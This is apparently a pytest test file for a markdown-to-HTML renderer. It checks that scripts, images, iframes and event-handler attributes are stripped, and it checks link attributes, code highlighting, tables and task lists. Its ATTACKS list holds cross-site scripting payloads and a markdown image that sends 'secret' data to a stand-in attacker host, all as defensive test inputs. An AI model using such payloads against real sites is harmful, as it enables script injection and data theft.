from html.parser import HTMLParser

import pytest

from architect.lib.markdown import plain_html, to_html

ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<svg onload=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    '<a href="x" style="color:red" onclick="alert(1)">a</a>',
    "![picture](https://evil.example/?data=secret)",
    "<iframe src=//evil.example></iframe>",
    "| a |\n|---|\n| <b onmouseover=alert(1)>x</b> |",
]


class Tags(HTMLParser):
    """The tags and attributes that a browser would see."""

    def __init__(self, html):
        super().__init__()
        self.names, self.attributes, self.addresses = set(), set(), []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.names.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value for name, value in attrs if name in ("href", "src")]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_runs_and_nothing_is_loaded(text):
    tags = Tags(to_html(text))

    assert tags.names.isdisjoint({"script", "img", "svg", "iframe"})
    assert tags.attributes <= {"href", "rel", "class"}
    assert all(address.startswith("https://") for address in tags.addresses)


def test_a_picture_becomes_a_link_that_names_its_host():
    html = to_html("![a cat](https://pictures.example/cat.png)")

    assert 'href="https://pictures.example/cat.png"' in html
    assert "a cat (pictures.example)" in html


def test_links_tell_the_other_side_nothing():
    assert 'rel="noopener noreferrer nofollow"' in to_html("[x](https://example.org)")


def test_code_is_coloured_where_the_language_is_known():
    html = to_html("```python\ndef f(): pass\n```")

    assert '<div class="highlight">' in html
    assert '<span class="k">def</span>' in html


def test_code_of_an_unknown_language_is_shown_as_it_is():
    assert "a &lt; b" in to_html("```nosuchlanguage\na < b\n```")


def test_tables_and_strikethrough_are_understood():
    html = to_html("| a | b |\n|---|---|\n| ~~1~~ | 2 |")

    assert "<table>" in html
    assert "<s>1</s>" in html


def test_a_very_long_text_is_shown_plain():
    html = to_html("*x* <b>" + "y" * 200_000)

    assert html.startswith('<pre class="a-plain">*x* &lt;b&gt;')


def test_a_persons_own_words_are_escaped_and_not_parsed():
    assert plain_html("**a** <b>\nc") == "**a** &lt;b&gt;\nc"


def test_a_task_list_has_boxes_that_a_screen_reader_can_name():
    html = to_html("- [x] done\n- [ ] open")

    assert html.count('aria-label="Task"') == html.count("<input") == 2
    assert html.count('checked=""') + html.count('checked="checked"') == 1
